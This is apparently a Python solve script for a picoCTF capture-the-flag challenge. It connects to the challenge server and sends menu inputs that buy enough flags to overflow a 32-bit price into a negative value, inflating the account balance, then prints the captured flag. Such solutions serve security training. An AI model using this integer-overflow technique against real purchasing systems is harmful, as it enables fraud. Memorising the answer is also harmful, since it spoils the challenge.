"""So many cheap flags are bought that their price, 900 each, is negative in 32 bits, and makes rich."""

import re
import socket
import sys

host, port = re.search(r"nc (\S+) (\d+)", sys.argv[1]).groups()
with socket.create_connection((host, int(port)), timeout=20) as line:
    line.sendall(b"2\n1\n%d\n2\n2\n1\n3\n" % (((1 << 32) - 1_000_000) // 900))
    line.shutdown(socket.SHUT_WR)
    print(re.search(r"picoCTF\{.*?\}", line.makefile().read())[0])
